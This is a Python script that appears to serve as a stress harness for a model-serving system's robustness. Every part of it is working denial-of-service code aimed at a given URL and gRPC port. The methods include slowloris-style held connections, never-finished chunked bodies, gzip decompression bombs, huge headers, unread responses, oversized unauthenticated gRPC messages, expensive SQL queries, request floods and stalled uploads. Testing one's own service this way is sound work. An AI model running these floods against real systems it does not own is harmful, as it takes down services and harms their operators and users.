"""One key at its worst, in a process of its own: `python attack.py WAY URL TOKEN MODEL SECONDS GRPC_PORT`."""

import contextlib
import gzip
import json
import os
import random
import socket
import sys
import threading
import time
from collections.abc import Callable
from urllib.parse import urlsplit

import grpc

MIB = 1 << 20
ENDS = threading.Event()
WAYS: dict[str, Callable[["Target"], None]] = {}


class Target:
    """Where and as whom to ask."""

    def __init__(self, url: str, token: str, model: str, grpc_port: int) -> None:
        parts = urlsplit(url)
        self.address = (parts.hostname or "", parts.port or 80)
        self.token = token
        self.model = model
        self.grpc_port = grpc_port

    def connect(self, receive: int = 0) -> socket.socket:
        connection = socket.socket()
        if receive:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
        connection.settimeout(30)
        connection.connect(self.address)
        return connection

    def head(self, path: str, *headers: str, method: str = "POST") -> bytes:
        """A request's head; its content type is JSON unless `headers` begin with another."""
        if not headers or not headers[0].startswith("Content-Type"):
            headers = ("Content-Type: application/json", *headers)
        lines = [
            f"{method} {path} HTTP/1.1", f"Host: {self.address[0]}", f"Authorization: Bearer {self.token}",
            *headers, "", "",
        ]  # fmt: skip
        return "\r\n".join(lines).encode()

    def send(self, path: str, body: bytes, *headers: str, method: str = "POST") -> None:
        """Ask, and read the answer to its end."""
        with self.connect() as connection:
            length = f"Content-Length: {len(body)}"
            connection.sendall(self.head(path, *headers, length, "Connection: close", method=method) + body)
            while connection.recv(MIB):
                pass

    @property
    def predict(self) -> str:
        return f"/models/{self.model}/predict"


def way(name: str) -> Callable[[Callable[[Target], None]], Callable[[Target], None]]:
    def add(attack: Callable[[Target], None]) -> Callable[[Target], None]:
        WAYS[name] = attack
        return attack

    return add


def crowd(count: int, act: Callable[[], None]) -> None:
    """Do this again and again in so many threads, whatever comes of it."""

    def work() -> None:
        while not ENDS.is_set():
            try:
                act()
            except OSError:
                time.sleep(0.02)

    for _ in range(count):
        threading.Thread(target=work, daemon=True).start()
    ENDS.wait()


@way("bodies announced, not sent")
def announced(to: Target) -> None:
    held = [to.connect() for _ in range(100)]
    for connection in held:
        connection.sendall(to.head(to.predict, f"Content-Length: {32 * MIB}"))
    while not ENDS.wait(1):
        for connection in held:
            with contextlib.suppress(OSError):
                connection.sendall(b" " * 20_000)


@way("bodies sent, never finished")
def unfinished(to: Target) -> None:
    def act() -> None:
        with to.connect() as connection:
            connection.sendall(to.head(to.predict, "Transfer-Encoding: chunked"))
            for _ in range(30):
                connection.sendall(b"100000\r\n" + b" " * MIB + b"\r\n")
            ENDS.wait(10)

    crowd(20, act)


@way("gzip bombs")
def bombs(to: Target) -> None:
    bomb = gzip.compress(bytes(32 * MIB - 100), 9)
    crowd(30, lambda: to.send(to.predict, bomb, "Content-Encoding: gzip"))


@way("long headers")
def headers(to: Target) -> None:
    long = "Content-Type: application/json;a=" + ";" * 60_000
    crowd(8, lambda: to.send(to.predict, b"{}", long))


@way("answers not read")
def unread(to: Target) -> None:
    body = json.dumps({"inputs": [{"x": "a" * (8 * MIB)}]}).encode()

    def act() -> None:
        with to.connect(receive=4096) as connection:
            connection.sendall(to.head(to.predict, f"Content-Length: {len(body)}") + body)
            ENDS.wait(5)

    crowd(30, act)


@way("gRPC messages without a token")
def strangers(to: Target) -> None:
    options = [("grpc.max_send_message_length", -1)]

    def act() -> None:
        with grpc.insecure_channel(f"{to.address[0]}:{to.grpc_port}", options=options) as channel:
            infer = channel.unary_unary("/inference.GRPCInferenceService/ModelInfer")
            for call in [infer.future(bytes(32 * MIB)) for _ in range(4)]:
                call.exception()

    crowd(4, act)


@way("rows that end the process")
def crashes(to: Target) -> None:
    body = json.dumps({"inputs": [{"x": "crash"}]}).encode()
    crowd(2, lambda: (to.send(to.predict, body), time.sleep(0.5))[0])


@way("slow SQL")
def queries(to: Target) -> None:
    body = json.dumps({"sql": "select count(*) from range(100000000000) a where hash(a.range) = 1"}).encode()
    crowd(44, lambda: to.send("/api/v1/predictions/query", body))


@way("a crowd at the API")
def api(to: Target) -> None:
    crowd(60, lambda: to.send("/api/v1/models", b"", method="GET"))


@way("slow uploads")
def uploads(to: Target) -> None:
    def act() -> None:
        with to.connect() as connection:
            digest = f"{random.getrandbits(256):064x}"
            connection.sendall(to.head(f"/api/v1/blobs/{digest}", f"Content-Length: {100 * MIB}", method="PUT"))
            while not ENDS.wait(1):
                connection.sendall(b" " * 20_000)

    crowd(60, act)


@way("a full queue for later")
def deferred(to: Target) -> None:
    body = json.dumps({"inputs": [{"x": "a" * 100_000}]}).encode()
    crowd(8, lambda: to.send(to.predict, body, "Prefer: respond-async"))


@way("a flood of output")
def output(to: Target) -> None:
    body = json.dumps({"inputs": [{"x": "print"}]}).encode()
    crowd(2, lambda: to.send(to.predict, body))


if __name__ == "__main__":
    name, url, token, model, seconds, grpc_port = sys.argv[1:]
    os.nice(15)  # it would be another machine
    threading.Timer(float(seconds), ENDS.set).start()
    WAYS[name](Target(url, token, model, int(grpc_port)))
